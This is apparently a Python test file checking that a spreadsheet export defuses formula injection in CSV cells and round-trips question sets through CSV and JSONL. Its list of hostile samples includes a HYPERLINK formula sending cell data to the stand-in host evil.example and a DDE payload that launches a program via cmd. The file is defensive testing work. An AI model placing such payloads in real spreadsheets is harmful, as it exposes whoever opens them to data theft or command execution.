"""What people download and open elsewhere: no cell of a table is a formula, and nothing is lost."""

import ast
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import defused, restored, write_table
from eval.question_files import read_questions, write_csv, write_jsonl
from eval.questions import HeldOutQuestion, question_from_row
from tests.test_architecture import ROOT, SOURCES

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+1",
    "=1", "\t=1", "\r=1", "\n=1", " =1", "   @x", '"=1', "'=1", "''=1", "' =1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠x", "\ttext", "\rtext", "-5", "“=1", "\x00=1",
]  # fmt: skip
HARMLESS = ["", "5", "a=b", "it's 5", "'quoted'", "x-1", "user@example.org", "''", "'", "  text"]
HOSTILE = st.one_of(
    st.sampled_from(FORMULAS),
    st.text("=+-@'\" \t\r\n|\\;,x＝", max_size=8),
    st.text(max_size=20),
)


def runs(cell: str) -> bool:
    """What a spreadsheet makes of a cell, seen generously: anything but text behind a mark."""
    return cell.lstrip(' \t\r\n"\u00a0\u200b\ufeff\x00“').startswith(tuple("=+-@＝＋－＠")) or (
        cell.startswith(("\t", "\r"))
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert defused(text) == f"'{text}"
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == restored(text) == text


@given(HOSTILE)
def test_every_text_comes_back(text: str) -> None:
    assert restored(defused(text)) == text
    assert not runs(defused(text))


@given(st.lists(st.lists(HOSTILE, min_size=3, max_size=3), max_size=4))
def test_no_cell_of_a_table_runs(rows: list[list[str]]) -> None:
    written = write_table(rows).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(written, newline=""), strict=True))
    assert not any(runs(cell) for row in cells for cell in row)
    assert [[restored(cell) for cell in row] for row in cells] == rows


def question_of(values: list[str], number: int) -> HeldOutQuestion:
    words, answer, short, tag, why, quote = values
    answered = any(text.strip(" \x00") for text in (answer, short))
    row: dict[str, Any] = {
        "id": f"q{number}", "question": f"{words} what{number}", "tags": [tag, short],
        "answer": answer if answered else "1", "short_answers": [short, tag], "why": why,
        "evidence_file": quote, "evidence_quote": quote, "kind": "seen",
    }  # fmt: skip
    return question_from_row(row, number)


@given(rows=st.lists(st.lists(HOSTILE, min_size=6, max_size=6), min_size=1, max_size=3))
def test_a_set_downloaded_as_csv_is_the_same_set_again(
    rows: list[list[str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    questions = [question_of(values, number) for number, values in enumerate(rows)]
    folder: Path = tmp_path_factory.mktemp("export")
    for name, write in (("set.csv", write_csv), ("set.jsonl", write_jsonl)):
        (folder / name).write_bytes(write(questions))
        assert read_questions(folder / name) == questions
    text = (folder / "set.csv").read_text("utf-8-sig")
    assert not any(runs(cell) for row in csv.reader(io.StringIO(text, newline="")) for cell in row)


def test_json_downloads_hold_the_texts_as_they_are() -> None:
    made = question_of(["=1+1", "=2", "-3", "+t", "@w", "=q"], 1)
    row = json.loads(write_jsonl([made]).decode())
    assert (row["answer"], row["why"]) == ("=2", "@w")


def test_tables_are_written_in_one_place_only() -> None:
    writers = {
        path.relative_to(ROOT).as_posix()
        for path in SOURCES
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv")
        and isinstance(node.value, ast.Name) and node.value.id == "csv"
    }  # fmt: skip
    assert writers == {"core/spreadsheet.py"}
